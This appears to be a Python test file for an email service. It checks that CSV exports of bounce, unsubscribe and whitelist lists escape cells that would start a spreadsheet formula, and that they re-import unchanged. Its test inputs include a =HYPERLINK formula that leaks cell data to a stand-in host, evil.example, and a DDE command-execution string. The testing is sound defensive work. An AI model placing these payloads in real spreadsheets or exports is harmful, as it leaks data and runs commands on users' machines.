"""A list exported as CSV opens in a spreadsheet as text: every cell a client wrote (an
error, a reason, a tag, even an address's local part) that would start a formula gets a
quote before it, and an import of the export reads the original values back."""

from __future__ import annotations

import csv
import io

from mailhaven.domains.service import owned_domain
from mailhaven.suppressions.service import entries_from_csv, export_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def _exported(services, account_id: str, domain: str, kind: str) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    with services.db.sessions() as session:
        text = export_csv(session, services.vault, owned_domain(session, account_id, domain),
                          kind)
    return list(csv.DictReader(io.StringIO(text)))


def test_exported_cells_never_start_a_formula(api, services, account, domain) -> None:  # type: ignore[no-untyped-def]
    for address, error in (("ann@example.org", HYPERLINK), ("=2+3@example.org", "+1 gone"),
                           ("-x@example.org", "@SUM(A1)"), ("bob@example.org", "\tgone"),
                           ("cy@example.org", "'quoted'"), ("dee@example.org", "plain")):
        added = api.post(f"/v3/{domain}/bounces",
                         data={"address": address, "code": "550", "error": error})
        assert added.status_code == 200, added.text
    assert api.post(f"/v3/{domain}/unsubscribes", data={
        "address": "eve@example.org", "tag": "=cmd|' /C calc'!A0"}).status_code == 200
    assert api.post(f"/v3/{domain}/whitelists", data={
        "address": "fay@example.org", "reason": "-partner"}).status_code == 200

    bounces = {row["address"]: row["error"]
               for row in _exported(services, account[0], domain, "bounces")}
    assert bounces == {"ann@example.org": "'" + HYPERLINK, "'=2+3@example.org": "'+1 gone",
                       "'-x@example.org": "'@SUM(A1)", "bob@example.org": "'\tgone",
                       "cy@example.org": "''quoted'", "dee@example.org": "plain"}
    [unsubscribe] = _exported(services, account[0], domain, "unsubscribes")
    assert unsubscribe["tag"] == "'=cmd|' /C calc'!A0"
    [allowed] = _exported(services, account[0], domain, "whitelists")
    assert allowed["reason"] == "'-partner"

    # What is exported imports again as it was.
    with services.db.sessions() as session:
        text = export_csv(session, services.vault,
                          owned_domain(session, account[0], domain), "bounces")
    again = {e.value: e.detail for e in entries_from_csv("bounces", text.encode())}
    assert again == {"ann@example.org": HYPERLINK, "=2+3@example.org": "+1 gone",
                     "-x@example.org": "@SUM(A1)", "bob@example.org": "\tgone",
                     "cy@example.org": "'quoted'", "dee@example.org": "plain"}
